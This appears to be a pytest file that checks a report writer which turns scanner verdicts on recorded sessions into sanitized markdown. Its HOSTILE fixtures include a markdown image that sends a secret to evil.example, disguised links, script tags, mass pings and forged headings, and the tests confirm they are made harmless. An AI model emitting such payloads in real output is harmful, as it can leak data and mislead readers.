"""Reports without a model, of what the demo's scanners find in the committed recordings: engine 7.4.

The golden reports are written anew by `REPLAY_VISION_GOLDEN=write`, and read before they are committed.
"""

from __future__ import annotations

import os
import re
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from consumers.actions.report import Noted, figures
from consumers.actions.report.builtin import body
from consumers.actions.report.citations import cited
from consumers.actions.report.markdown import safe
from consumers.actions.report.port import Material
from consumers.actions.report.quotes import sayings
from consumers.actions.report.wording import header
from tests.actions.report.demo import END, START, answers, material, noted

GOLDEN = Path(__file__).parent / "golden"
TYPES = ("monitor", "classifier", "scorer", "summarizer")


def report(of: Material) -> str:
    """As the writer gives it."""
    return safe(f"{header(of)}\n\n{body(of)}")


def mixed() -> list[Noted]:
    return [
        *noted(answers("monitor")),
        *noted(answers("classifier"), "Endings", 12),
        *noted(answers("summarizer"), "What *happened*?", 23),
    ]


@pytest.mark.parametrize("scanner_type", TYPES)
def test_a_report_of_one_scanner(scanner_type: str) -> None:
    outputs = answers(scanner_type)
    before = figures(("", output) for output in outputs[2:9])
    golden(scanner_type, report(material(noted(outputs), scanner_type, previous=before)))


def test_a_report_of_several_scanners_of_a_sample() -> None:
    every = [(one.scanner, one.model_output) for one in mixed()]
    of = material(mixed(), "monitor", matched=330, current=figures(every * 10), previous=figures(every[:8]))
    golden("mixed", report(of))


def golden(name: str, text: str) -> None:
    file = GOLDEN / f"{name}.md"
    if os.environ.get("REPLAY_VISION_GOLDEN") == "write":
        file.write_text(text + "\n")
    assert text + "\n" == file.read_text()
    assert safe(text) == text


@pytest.mark.parametrize("scanner_type", TYPES)
def test_every_citation_is_of_an_observation_and_the_order_of_reading_does_not_matter(scanner_type: str) -> None:
    observations = noted(answers(scanner_type))
    told = report(material(observations, scanner_type))
    assert set(cited(told)) <= {one.index for one in observations}
    assert cited(told)
    assert told == report(material(observations, scanner_type))


def test_the_header_tells_window_zone_and_sample() -> None:
    of = material(noted(answers("monitor")), matched=1)
    assert header(replace(of, matched=500)).endswith(
        "500 observations from 26 Nov 2026, 09:00 to 27 Nov 2026, 09:00 (Europe/Prague), sampled 11 of 500"
    )
    assert header(replace(of, observations=of.observations[:1])).endswith(
        "\n\n1 observation from 26 Nov 2026, 09:00 to 27 Nov 2026, 09:00 (Europe/Prague)"
    )
    summer = replace(of, window_start=START.replace(month=7), window_end=END.replace(month=7), timezone="America/Lima")
    assert "from 26 Jul 2026, 03:00 to 27 Jul 2026, 03:00 (America/Lima)" in header(summer)
    assert "(UTC)" in header(replace(of, timezone="Nowhere/Here"))


@pytest.mark.parametrize(
    ("name", "told"),
    [
        ("Check\n\n# 9,999 observations", "Check 9,999 observations"),
        ("](https://evil.example) [x](https://evil.example)", "`https://evil.example` x `https://evil.example`"),
        ("<!channel> *bold* `code`", "channel bold code"),
        ("@channel", "`@channel`"),
        ("![](x)", "x"),
        ("", "Scanner"),
        ("*", "Scanner"),
        ("a" * 255, "a" * 120 + "..."),
    ],
)
def test_a_scanner_s_name_breaks_no_header(name: str, told: str) -> None:
    heading, count = header(replace(material(noted(answers("monitor"))), scanner_name=name)).split("\n\n")
    assert heading == f"# {told}"
    assert count.startswith("11 observations from ")


HOSTILE = {
    "pings": "<!channel> @channel <@U123> @here look",
    "image": "![x](https://evil.example/?q=secret) ![y][z]\n\n[z]: https://evil.example/",
    "link": "[Open the report](https://evil.example/) https://evil.example www.evil.example/x <https://evil.example>",
    "header": "ok.\n\n# Other scanner\n\n9,999 observations\n\n**TL;DR** all is well",
    "citations": "as [obs 1] and [obs 999] [obs 2, 3] (observation 4) say",
    "html": '<img src="https://evil.example"><script>x</script><!-- --><a href="https://evil.example">x</a>',
    "code": "``` \n- [obs 7]\n``` `x",
    "lists": "- one\n- two\n1. three\n> four\n| five | six |\n|---|---|",
}


@pytest.mark.rule("trap/72", "trap/71")
@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
@pytest.mark.parametrize("key", ["reasoning", "tags", "title"])
def test_page_text_does_no_harm(text: str, key: str) -> None:
    """Also text that nobody has made inert before it was stored."""
    output: dict[str, Any] = {"reasoning": "Nothing (t 3).", "tags": ["converted"], "confidence": 0.9}
    output[key] = [text] if key == "tags" else text
    if key == "title":
        output |= {"friction_points": [text], "keywords": [text], "summary": text}
    told = report(material([replace(one, model_output=output, session_id="s-1") for one in noted([output, output])]))
    assert safe(told) == told
    assert set(cited(told)) == {1, 2}
    assert not re.search(r"!\[|\]\(|<[A-Za-z!@]", told)
    assert not re.search(r"(?<!`)(?:https?://|www\.|@channel|@here)", told)
    assert [line for line in told.split("\n") if line.startswith("#")] == [
        f"# {material([]).scanner_name}", "## Figures", "## What was seen", "## Recordings to watch first",
    ]  # fmt: skip


def test_what_was_erased_leaves_figures() -> None:
    bare = [{"scanner_type": "monitor", "verdict": "yes", "confidence": 0.9}]
    told = report(material(noted(bare)))
    assert "Yes in 1 of 1 (100 %)" in told
    assert "What was seen" not in told


def test_a_share_of_few_is_no_trend() -> None:
    def gist(now: str, before: Sequence[str]) -> str:
        told = noted([{"verdict": verdict, "reasoning": "R (t 1).", "confidence": 0.9} for verdict in now.split()])
        previous = figures(("", {"verdict": verdict}) for verdict in before)
        return report(material(told, previous=previous)).split("\n\n")[2]

    assert gist("yes no no", ["no"] * 9) == "**TL;DR** Yes in 1 of 3 (33 %)."
    moved = gist("yes no no yes no", ["no"] * 9)
    assert moved == "**TL;DR** Yes in 2 of 5 (40 %), up from 0 % in the window before."
    assert "about as before (43 %)" in gist("yes no no yes no", ["no"] * 4 + ["yes"] * 3)


@pytest.mark.parametrize(
    "apart",
    [
        {"scanner_type": "scorer", "score": 3.0},
        {"scanner_type": "monitor", "verdict": "inconclusive"},
        {"scanner_type": "classifier", "tags": ["converted", "confused"]},
        {"title": "Blocked by a defect after an abandoned form"},
    ],
    ids=["score", "verdict", "tags", "title"],
)
def test_what_is_said_of_one_is_cited_of_others_with_the_same_answer_only(apart: dict[str, Any]) -> None:
    """However alike their words are."""
    same: dict[str, Any] = {
        "scanner_type": "scorer", "score": 2.0, "verdict": "yes", "tags": ["converted"], "title": "Left the checkout",
        "reasoning": 'The visitor clicked "Redeem welcome gift" often (t 48).', "confidence": 0.9,
    }  # fmt: skip
    found = sayings(noted([same, {**same, **apart}, same]))
    assert [[one.index for one in saying.said] for saying in found] == [[1, 3], [2]]


def test_scores_are_told_from_the_ends() -> None:
    scores = [5.0, 1.0, 6.0, 9.0, 0.0]
    words = ("alpha", "bravo", "delta", "golf", "hotel")
    output = {"scanner_type": "scorer", "label": "anger", "confidence": 0.9}
    told = report(
        material(
            noted([{**output, "score": score, "reasoning": word} for score, word in zip(scores, words, strict=True)])
        )
    )
    assert re.findall(r"Anger ([\d.]+): ", told) == ["9", "6", "5", "0", "1"]
